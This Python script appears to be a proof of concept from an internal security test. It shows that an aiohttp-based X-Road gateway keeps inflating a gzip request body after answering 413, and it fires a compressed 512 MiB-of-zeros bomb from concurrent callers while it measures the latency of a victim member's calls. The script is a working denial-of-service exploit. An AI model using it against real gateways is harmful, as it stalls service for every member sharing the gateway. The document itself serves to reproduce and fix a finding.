"""Finding: a gzip body stalls the X-Road gateway's event loop for every caller. aiohttp inflates
a request body sent with Content-Encoding: gzip on the gateway's one event loop; the gateway
answers 413 once 1 MiB is passed, but the rest of the body is still read and inflated (aiohttp
drains an unread body to keep the connection), so a 510 KB body of zeros costs ~1 s of the
gateway's only thread. A few concurrent callers with such bodies hold every other member's calls.

Run: cd docs/hostile-runs/round2 && ../../../.venv/bin/python f4_gateway_gzip_bomb.py [concurrency] [seconds]
"""
import gzip, statistics, sys, threading, time
from common import *

CONC = int(sys.argv[1]) if len(sys.argv) > 1 else 4
SECS = float(sys.argv[2]) if len(sys.argv) > 2 else 10
BOMB = gzip.compress(b"\0" * (512 * 1024 * 1024), 9)
ATTACKER, VICTIM = "VN/GOV/000.00.00.H41/motcua", "VN/GOV/000.00.00.H40/motcua"

def sample(lat, stop):
    while not stop.is_set():
        lat.append(gw_call(VICTIM, timeout=60)); time.sleep(0.1)

def summary(lat):
    ms = sorted(m for c, m in lat)
    ok = sum(1 for c, _ in lat if c == 200)
    return f"{len(lat)} calls ({ok} ok), median {statistics.median(ms):.0f} ms, p90 {ms[int(len(ms)*0.9)]:.0f} ms, max {ms[-1]:.0f} ms"

def run(label, attack):
    lat, stop = [], threading.Event()
    t = threading.Thread(target=sample, args=(lat, stop)); t.start()
    codes = []
    def bomber():
        end = time.time() + SECS
        while time.time() < end:
            codes.append(gw_call(ATTACKER, body=BOMB, extra={"Content-Encoding": "gzip"}, timeout=120)[0])
    bs = [threading.Thread(target=bomber) for _ in range(CONC if attack else 0)]
    [b.start() for b in bs]
    if not attack: time.sleep(SECS)
    [b.join() for b in bs]
    stop.set(); t.join()
    print(f"{label}: victim {VICTIM}: {summary(lat)}" + (f"; attacker's {len(codes)} bomb calls answered {sorted(set(codes))}" if attack else ""))

print(f"bomb: {len(BOMB):,} bytes gzip of 512 MiB zeros; gateway RSS {rss('gateway')} MB")
run("before", False)
run(f"during ({CONC} callers sending bombs)", True)
print(f"gateway RSS after {rss('gateway')} MB")
